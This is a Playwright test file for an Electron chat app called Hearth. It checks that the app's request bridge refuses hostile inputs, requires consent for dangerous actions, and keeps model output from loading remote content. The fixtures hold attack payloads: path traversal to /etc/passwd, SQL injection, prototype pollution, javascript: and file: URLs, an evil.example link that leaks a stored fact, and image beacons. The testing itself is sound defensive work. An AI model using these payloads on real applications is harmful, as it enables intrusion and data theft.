import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import type { RequestName } from '../src-preload/contract';
import { answerConsent } from './fixtures/consent';
import { expect, type Hearth, READY, test } from './fixtures/hearth';
import { inPage } from './fixtures/in-page';
import { startListeners } from './fixtures/listeners';
import { windowOf } from './fixtures/window';

test.describe('requests', () => {
  test('with bad inputs are refused as such, and change nothing', async ({ shared }) => {
    const { page } = shared;
    const { codes, isClean } = await inPage(page, async () => {
      // What no honest caller could send.
      const ask = (name: string, input: unknown) => window.hearth.request(name as never, input as never);
      const proto = JSON.parse('{"id":"0190a000-0000-7000-8000-000000000000","__proto__":{"isAdmin":true}}');
      const inputs: readonly (readonly [string, unknown])[] = [
        ['conversation:open', undefined],
        ['conversation:open', null],
        ['conversation:open', { id: '../../etc/passwd' }],
        ['conversation:open', { id: "' OR 1=1 --" }],
        ['conversation:open', { id: '0190a000-0000-7000-8000-000000000000', extra: 1 }],
        ['conversation:open', { ...proto, constructor: { prototype: { isAdmin: true } } }],
        ['conversation:delete', [['id']]],
        ['message:send', { conversationId: null, text: 'x'.repeat(17 * 1024 * 1024) }],
        ['message:send', { conversationId: null, text: '   ' }],
        ['message:send', { conversationId: null, text: 'a', spans: [{ from: 3, to: 1, kind: 'typed' }] }],
        [
          'message:send',
          { conversationId: null, text: 'a', spans: Array(10_001).fill({ from: 0, to: 1, kind: 'typed' }) },
        ],
        ['settings:set', { key: '__proto__', value: true }],
        ['settings:set', { key: 'constructor', value: true }],
        ['settings:set', { key: 'no.such', value: true }],
        ['settings:set', { key: 'ollama.model', value: { toString: 'x' } }],
        ['app:open-link', { url: `https://${'a'.repeat(5_000)}` }],
      ];
      const answers = [];
      for (const [name, input] of inputs) answers.push(await ask(name, input));
      const settings = await ask('settings:get', {});
      return {
        codes: answers.map((answer) => (answer.ok ? 'ok' : answer.error.code)),
        isClean: settings.ok && !('isAdmin' in {}) && !Object.keys(settings.value as object).includes('__proto__'),
      };
    });
    expect(codes.filter((code) => code === 'ok' || code === 'internal')).toEqual([]);
    expect(isClean).toBe(true);
  });

  test('that nobody declared do not leave the page', async ({ shared }) => {
    const { page } = shared;
    const refused = await inPage(page, async () => {
      const names: readonly unknown[] = ['shell:run', 'ELECTRON_BROWSER_REQUIRE', '__proto__', 'constructor', {}, null];
      const requests = names.map((name) => window.hearth.request(name as 'app:info', {}).then(Boolean, () => false));
      const events = names.map((name) => {
        try {
          return Boolean(window.hearth.on(name as 'app:theme', () => undefined));
        } catch {
          return false;
        }
      });
      return [...(await Promise.all(requests)), ...events];
    });
    expect(refused).toEqual(Array(12).fill(false));
  });

  test('from a page or a frame that Hearth did not serve are denied', async ({ shared }) => {
    const { app } = shared;
    const answers = await app.evaluate(async ({ BrowserWindow, app: electronApp }) => {
      const stranger = new BrowserWindow({
        show: false,
        webPreferences: { preload: `${electronApp.getAppPath()}/out/preload/index.cjs`, sandbox: true },
      });
      const ask = `hearth.request('conversation:list', {}).then((answer) => answer.ok || answer.error.code)`;
      await stranger.loadURL('data:text/html,<p>another origin</p>');
      const fromPage = await stranger.webContents.executeJavaScript(ask);
      const framed = new BrowserWindow({
        show: false,
        webPreferences: {
          preload: `${electronApp.getAppPath()}/out/preload/index.cjs`,
          sandbox: false,
          nodeIntegrationInSubFrames: true,
        },
      });
      await framed.loadURL('data:text/html,<iframe srcdoc="a frame"></iframe>');
      const frames = framed.webContents.mainFrame.frames;
      const fromFrame = await Promise.all(frames.map((frame) => frame.executeJavaScript(ask)));
      stranger.destroy();
      framed.destroy();
      return [fromPage, ...fromFrame];
    });
    expect(answers).toEqual(['denied', 'denied']);
  });
});

test('a page that sends every dangerous request gets nothing done while nobody says yes', async ({
  launch,
  dataFolder,
}) => {
  const { page, app } = await launch({ settings: READY });
  const folder = join(dataFolder, 'outside', 'secret');
  mkdirSync(folder, { recursive: true });
  await app.evaluate(({ dialog }, path) => {
    dialog.showOpenDialog = async () => ({ canceled: false, filePaths: [path] });
  }, folder);
  await page.evaluate(() => window.hearth.request('fact:add', { section: 'profile', text: 'Works as a hydrographer' }));
  const id = await page.evaluate(async () => {
    const linked = await window.hearth.request('project:link', {});
    return linked.ok ? (linked.value?.id ?? '') : '';
  });
  const placeIds = await page.evaluate(async () => {
    const found = await window.hearth.request('forget:find', { text: 'hydrographer' });
    return found.ok ? found.value.map((place) => place.id) : [];
  });
  const before = await page.evaluate(async () => JSON.stringify(await window.hearth.request('settings:get', {})));
  const person = await answerConsent(app, 'no');
  const codes: string[] = [];
  const send = async (name: RequestName, input: unknown) => {
    const answer = await page.evaluate(
      // As a page sends it that keeps to no types.
      ([asked, given]) => window.hearth.request(asked as never, given as never),
      [name, input] as const,
    );
    codes.push(answer.ok ? 'ok' : answer.error.code);
    // Five noes within a minute would keep the rest from being asked at all.
    if (codes.length % 4 === 0) await letMinutesPass(app);
  };
  await send('settings:set', { key: 'ollama.host', value: 'http://192.0.2.1' });
  await send('settings:set', { key: 'app.launch_at_login', value: true });
  await send('app:open-link', { url: 'https://evil.example/?fact=hydrographer' });
  await send('project:trust', { id, isTrusted: true });
  await send('forget:apply', { text: 'hydrographer', placeIds });
  await send('memory:clear-everything', { name: 'Personal' });
  await send('model:delete', { name: 'stand-in:latest' });
  await send('model:pull', { name: 'evil.example/x/y' });
  expect(codes).toEqual([...Array(7).fill('declined'), 'model_name']);
  expect(await person.asked()).toHaveLength(7);
  const after = await page.evaluate(async () => JSON.stringify(await window.hearth.request('settings:get', {})));
  expect(after).toBe(before);
  const left = await page.evaluate(async () =>
    JSON.stringify([await window.hearth.request('memory:list', {}), await window.hearth.request('project:list', {})]),
  );
  expect(left).toContain('hydrographer');
  expect(left).toContain('"state":"untrusted"');
});

/** Main's clock goes on by two minutes. */
async function letMinutesPass(app: Hearth['app']): Promise<void> {
  await app.evaluate(() => {
    const now = Date.now;
    Date.now = () => now() + 120_000;
  });
}

test.describe('what a model writes', () => {
  test('loads nothing from anywhere', async ({ shared }) => {
    const { page, ollama } = shared;
    const listeners = await startListeners();
    const { http } = listeners.ports;
    const url = `http://127.0.0.1:${http}/leak.png`;
    ollama.script({
      steps: [
        `![a picture](${url})\n\n<img src="${url}"><iframe src="${url}"></iframe>\n\n[![x](${url})](${url})\n\nThe end.`,
      ],
    });
    const { say, log, stop } = windowOf(page);
    await say('Show me a picture');
    await expect(log.getByText('The end.')).toBeVisible();
    await expect(stop).toBeHidden();
    await expect(log.getByText(/Image not loaded: a picture/)).toBeVisible();
    expect(listeners.heard()).toEqual([]);
    await listeners.close();
  });

  test('opens nothing before its address was shown, and then only https and mailto', async ({ launch, ollama }) => {
    ollama.script({
      steps: [
        '[bank](https://evil.example/login) [write](mailto:a@b.example) [run](file:///bin/sh) [code](javascript:alert(1)) [plain](http://a.example/)',
      ],
    });
    const { page, app } = await launch({ settings: READY });
    await app.evaluate(({ shell }) => {
      const opened: string[] = [];
      Reflect.set(globalThis, 'opened', opened);
      shell.openExternal = async (url) => void opened.push(url);
    });
    const opened = () => app.evaluate(() => Reflect.get(globalThis, 'opened') as string[]);
    const { say, log, stop } = windowOf(page);
    const dialog = page.getByRole('dialog');
    await say('Links, please');
    await expect(log.getByText('plain')).toBeVisible();
    await expect(stop).toBeHidden();

    const no = await answerConsent(app, 'no');
    await log.getByText('bank').click();
    await expect(page.getByText('The link was not opened.')).toBeVisible();
    expect(await no.asked()).toEqual([
      {
        message: 'Open evil.example in your browser?',
        detail: 'https://evil.example/login',
        no: 'Cancel',
        yes: 'Open in browser',
      },
    ]);
    expect(await opened()).toEqual([]);
    const yes = await answerConsent(app, 'yes');
    await log.getByText('bank').click();
    await expect.poll(opened).toEqual(['https://evil.example/login']);
    expect(await yes.asked()).toHaveLength(1);

    await log.getByText('plain').click();
    await expect(dialog.getByText('http://a.example/')).toBeVisible();
    await page.keyboard.press('Escape');
    expect(await yes.asked()).toHaveLength(1);

    const codes = await inPage(page, async () => {
      const urls = [
        'http://a.example/',
        'file:///bin/sh',
        'javascript:alert(1)',
        'smb://a/b',
        'not an address',
        ' https:',
      ];
      const answers = await Promise.all(urls.map((url) => window.hearth.request('app:open-link', { url })));
      return answers.map((answer) => answer.ok || answer.error.code);
    });
    expect(new Set(codes)).toEqual(new Set(['link_refused']));
    expect(await opened()).toEqual(['https://evil.example/login']);
    expect(page.url()).toBe('app://hearth/index.html');
  });

  test('for 200 links show one question at a time, and open none that was not seen', async ({ launch }) => {
    const { page, app } = await launch({ settings: READY });
    await app.evaluate(({ shell, dialog }) => {
      Reflect.set(globalThis, 'opened', 0);
      Reflect.set(globalThis, 'shown', []);
      shell.openExternal = async () => void Reflect.set(globalThis, 'opened', Reflect.get(globalThis, 'opened') + 1);
      // Nobody is there to press a button.
      dialog.showMessageBox = (...given: readonly unknown[]) => {
        Reflect.get(globalThis, 'shown').push((given.at(-1) as { readonly detail: string }).detail);
        return new Promise(() => undefined);
      };
    });
    await inPage(page, () => {
      const urls = Array.from({ length: 199 }, (_, nth) => `https://${nth}.example/`);
      const answered: (string | false)[] = [];
      Reflect.set(globalThis, 'answered', answered);
      for (const url of [...urls, 'mailto:?attach=/etc/passwd']) {
        const asked = window.hearth.request('app:open-link', { url });
        void asked.then((answer) => answered.push(!answer.ok && answer.error.code));
      }
    });
    // One is asked and three wait behind it.
    const answered = () => page.evaluate(() => Reflect.get(globalThis, 'answered') as readonly (string | false)[]);
    await expect.poll(answered).toEqual(Array.from({ length: 196 }, () => 'consent_busy'));
    const seen = await app.evaluate(() => [Reflect.get(globalThis, 'opened'), Reflect.get(globalThis, 'shown')]);
    expect(seen).toEqual([0, ['https://0.example/']]);
  });
});
